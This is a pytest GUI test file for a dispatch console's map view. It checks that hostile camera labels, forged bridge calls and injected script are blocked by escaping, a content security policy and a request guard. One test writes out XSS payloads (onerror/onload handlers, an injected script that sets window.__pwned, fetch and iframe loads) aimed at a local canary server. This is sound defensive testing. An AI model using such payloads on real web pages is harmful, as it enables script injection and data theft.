"""The real map page with a hostile registry (tests/gui/hostile_corpus.py, in through import, feed and intake):
every marker hovered and clicked, nothing ran, nothing was fetched, the bridge took nothing, each label shown
literally; the page's policy and request guard hold even against script injected past the escaping; the bridge
refuses forged and ill-formed calls."""

from __future__ import annotations

import json
import logging

import pytest
from PySide6.QtCore import QUrl
from PySide6.QtWebEngineCore import QWebEnginePage

from console.gui.map.guard import UserGestures
from tests.gui.hostile_corpus import CENTRE, TITLE_CANARY, Canary, seed
from tests.gui.map_clicks import click_map_at, click_marker
from tests.gui.page_probe import js_eval, js_state

pytestmark = pytest.mark.gui


@pytest.fixture
def canary():
    with Canary() as server:
        yield server


@pytest.fixture
def hostile(sqlite_url, tmp_path, canary):
    return seed(sqlite_url, tmp_path, canary.base_url)


def open_at_incident(qtbot, make_console, hostile):
    window = make_console(hostile.url).window
    with qtbot.waitSignal(window.controller.sig_nearby_shown, timeout=30_000) as shown:
        window.controller.set_incident(*CENTRE, "CAD-666")
    return window, shown.args[0]


def page_untouched(qtbot, window) -> dict:
    return json.loads(js_eval(qtbot, window, "JSON.stringify({pwned: window.__pwned === undefined ? null : "
                                             "window.__pwned, title: document.title, frames: window.frames.length, "
                                             "scripts: document.scripts.length})"))


def test_every_hostile_marker_hovered_and_clicked_runs_nothing_fetches_nothing_and_shows_its_label(
        qtbot, make_console, hostile, canary):
    window, answer = open_at_incident(qtbot, make_console, hostile)
    before = page_untouched(qtbot, window)
    shown = {c.camera.id: c.camera for c in answer.inside}
    labels = {c.label for c in shown.values()}
    assert labels == set(hostile.labels), "every hostile camera, from each path, is near the incident unchanged"
    assert set(hostile.labels.values()) == {"import", "feed", "intake"}
    incident = window.controller.point

    for camera_id, camera in shown.items():
        tooltip = js_eval(qtbot, window, f"rtic.hoverMarker({camera_id})")
        assert tooltip is not None, camera.label
        label, _, distance = tooltip.rpartition(" · ")
        assert label == camera.label, f"tooltip shows {tooltip[:80]!r}"
        assert distance.endswith(" m")
        with qtbot.waitSignal(window.map.sig_marker_clicked, timeout=10_000) as clicked:
            click_marker(qtbot, window, camera_id)  # the user's own click: the bridge takes it
        assert clicked.args == [camera_id]
    qtbot.wait(200)  # let any onerror/onload handler and any request a payload made happen before counting

    after = page_untouched(qtbot, window)
    assert after == before and after["pwned"] is None and after["title"] != TITLE_CANARY
    assert canary.hits == []
    assert window.map.request_guard.refused == {}  # not even an attempt reached the network layer
    assert window.map.bridge.refused == []
    assert window.controller.point == incident  # no click moved the incident
    state = js_state(qtbot, window)
    assert (state["incident"]["lat"], state["incident"]["lon"]) == CENTRE
    # The CAD text of the incident (hostile too) did not run either; the page holds it as a plain string.
    assert state["incident"]["label"] == "CAD-666"


def test_script_and_requests_injected_past_the_escaping_are_stopped_by_the_policy(qtbot, make_console, hostile,
                                                                                   canary):
    """What would happen if a label ever did reach the DOM as HTML: the page's CSP and the profile's guard."""
    window, _answer = open_at_incident(qtbot, make_console, hostile)
    c = canary.base_url
    assert "connect-src 'none'" in window.map.policy and "'unsafe-inline'" not in window.map.policy
    js_eval(qtbot, window, f"""(function () {{
        var box = document.createElement('div');
        box.id = 'injected';
        document.body.appendChild(box);
        box.insertAdjacentHTML('beforeend', '<img src=x onerror="window.__pwned=1">' +
            '<img src="{c}/img"><svg onload="window.__pwned=2"></svg><iframe src="{c}/frame"></iframe>' +
            '<div style="background:url({c}/style)">x</div><object data="{c}/object"></object>');
        var s = document.createElement('script');
        s.textContent = 'window.__pwned = 3; document.title = "{TITLE_CANARY}"';
        document.head.appendChild(s);
        var e = document.createElement('script');
        e.src = '{c}/external.js';
        document.head.appendChild(e);
        try {{ fetch('{c}/fetch').catch(function () {{}}); }} catch (err) {{}}
        try {{ new WebSocket('ws://127.0.0.1:1/ws'); }} catch (err) {{}}
        var i = new Image(); i.src = '{c}/image-object';
        return true;
    }})()""")
    qtbot.waitUntil(lambda: js_eval(qtbot, window, "document.querySelectorAll('#injected img').length") == 2,
                    timeout=5_000)
    qtbot.wait(300)  # the blocked loads and handlers would have happened by now
    state = page_untouched(qtbot, window)
    assert state["pwned"] is None and state["title"] != TITLE_CANARY
    assert canary.hits == []


def test_the_profile_refuses_other_hosts_and_logs_each_once_without_the_query(qtbot, make_console, hostile, canary,
                                                                              caplog):
    window, _answer = open_at_incident(qtbot, make_console, hostile)
    page = QWebEnginePage(window.map.profile)  # a page with no policy at all on the map's profile: only the guard
    try:
        with caplog.at_level(logging.WARNING, logger="console.gui.map.guard"):
            for n in range(3):
                with qtbot.waitSignal(page.loadFinished, timeout=10_000):
                    page.load(QUrl(f"{canary.base_url}/page?token=SECRET-{n}"))
        assert canary.hits == []
        origin = canary.base_url.rsplit(":", 1)[0]  # scheme and host: the port is not part of it
        assert window.map.request_guard.refused == {origin: 3}
        refusals = [r.getMessage() for r in caplog.records if "refused" in r.getMessage()]
        assert len(refusals) == 1 and origin in refusals[0] and "SECRET" not in refusals[0]
    finally:
        page.deleteLater()
        qtbot.wait(50)


def test_a_forged_map_click_is_ignored_and_a_real_one_moves_the_incident(qtbot, make_console, hostile):
    from tests.support.geometry import destination

    window, _answer = open_at_incident(qtbot, make_console, hostile)
    incident = window.controller.point
    lat, lon = destination(*CENTRE, 200, 150)
    assert js_eval(qtbot, window, f"rtic.clickMap({lat}, {lon})") is True  # page script, no mouse
    camera_id = window.controller.answer.inside[0].camera.id
    assert js_eval(qtbot, window, f"rtic.clickMarker({camera_id})") is True
    qtbot.waitUntil(lambda: len(window.map.bridge.refused) == 2, timeout=5_000)
    assert window.map.bridge.refused == ["mapClicked", "markerClicked"]
    assert window.controller.point == incident and window.controller.selected != camera_id

    window.actions_by_id["place_incident"].trigger()  # a real click moves the incident in place-incident mode
    with qtbot.waitSignal(window.controller.sig_nearby_shown, timeout=20_000) as moved:
        click_map_at(qtbot, window, lat, lon)
    from console.domain.geo import haversine_m

    assert haversine_m(moved.args[0].lat, moved.args[0].lon, lat, lon) < 5
    # One real click is one call: a forged click right after it finds the gesture used up.
    js_eval(qtbot, window, f"rtic.clickMap({CENTRE[0]}, {CENTRE[1]})")
    qtbot.waitUntil(lambda: len(window.map.bridge.refused) == 3, timeout=5_000)
    assert haversine_m(window.controller.point.lat, window.controller.point.lon, lat, lon) < 5


def test_the_bridge_takes_only_well_formed_calls(qtbot, make_console, hostile):
    window, answer = open_at_incident(qtbot, make_console, hostile)
    bridge, known = window.map.bridge, answer.inside[0].camera.id
    got = []
    bridge.sig_marker_clicked.connect(lambda i: got.append(("marker", i)))
    bridge.sig_map_clicked.connect(lambda la, lo: got.append(("map", la, lo)))
    bridge.sig_area_drawn.connect(lambda pts: got.append(("area", pts)))
    gestures: UserGestures = window.map.gestures

    def with_gesture(call):
        gestures.grant(call.__name__)  # as if the user had just clicked: only the values can be wrong now
        call_args = call.args
        getattr(bridge, call.__name__)(*call_args)

    class C:
        def __init__(self, name, *args):
            self.__name__, self.args = name, args

    bad = [C("markerClicked", 999_999), C("markerClicked", str(known)), C("markerClicked", True),
           C("markerClicked", float("nan")), C("markerClicked", None), C("markerClicked", {"id": known}),
           C("mapClicked", float("nan"), 0.0), C("mapClicked", 91.0, 0.0), C("mapClicked", 0.0, -180.5),
           C("mapClicked", float("inf"), 1.0), C("mapClicked", "42", "-72"), C("mapClicked", None, None),
           C("areaDrawn", "[[42, -72], [42.1, -72]]"), C("areaDrawn", "not json"),
           C("areaDrawn", json.dumps([[42, -72], [42.1, -72], [95, 0]])),
           C("areaDrawn", json.dumps([[42, -72]] * 1000)), C("areaDrawn", 12)]
    for call in bad:
        with_gesture(call)
    assert got == []
    assert len(bridge.refused) == len(bad)
    for call in (C("markerClicked", known), C("mapClicked", 42.0, -72.5),
                 C("areaDrawn", json.dumps([[42, -72], [42.1, -72], [42.1, -72.1]]))):
        with_gesture(call)
    assert got == [("marker", known), ("map", 42.0, -72.5), ("area", [[42, -72], [42.1, -72], [42.1, -72.1]])]
    bridge.pageReady()  # a second "ready" from the page is refused, not a second flush
    assert bridge.refused[-1] == "pageReady"
